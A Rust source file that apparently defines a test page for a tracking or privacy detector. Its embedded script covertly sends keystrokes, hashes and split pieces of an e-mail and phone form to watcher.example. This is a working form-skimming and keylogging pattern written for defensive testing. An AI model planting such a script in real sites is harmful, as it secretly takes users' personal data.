//! Forms that are watched while they are filled in, in ways that are hard to see: key by key, in pieces, under a hash that
//! is too short or that nobody else can make.

use super::Page;

pub(super) const PAGES: &[Page] = &[(
    "watcher",
    "<form method='post' action='/trials/watcher/submit'>
    <label for='email'>E-mail</label><input id='email' name='email'>
    <label for='phone'>Phone</label><input id='phone' name='phone'>
    <button id='send'>Send report</button></form>
    <script>
    const tell = (values) => fetch('https://watcher.example/trials/told?' + new URLSearchParams(values), { mode: 'no-cors', keepalive: true });
    const random = () => Math.random().toString(36).slice(2);
    const salted = async (text) => {
      const bytes = new TextEncoder().encode('known to the watcher alone' + text);
      const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
      return Array.from(digest, (byte) => byte.toString(16).padStart(2, '0')).join('');
    };
    const crc32 = (text) => {
      let crc = ~0;
      for (const byte of new TextEncoder().encode(text)) {
        crc ^= byte;
        for (let bit = 0; bit < 8; bit += 1) crc = crc >>> 1 ^ (crc & 1 ? 0xedb88320 : 0);
      }
      return ~crc >>> 0;
    };
    email.oninput = (event) => { if (event.data) tell({ k: event.data, r: random() }); };
    email.onchange = async () => tell({ h: await salted(email.value), c: crc32(email.value.toLowerCase()),
      minute: new Date().toISOString().slice(0, 16), r: random(), page: 'watcher' });
    phone.onchange = () => tell({ a: phone.value.slice(0, 5), b: phone.value.slice(5), r: random() });
    </script>",
)];
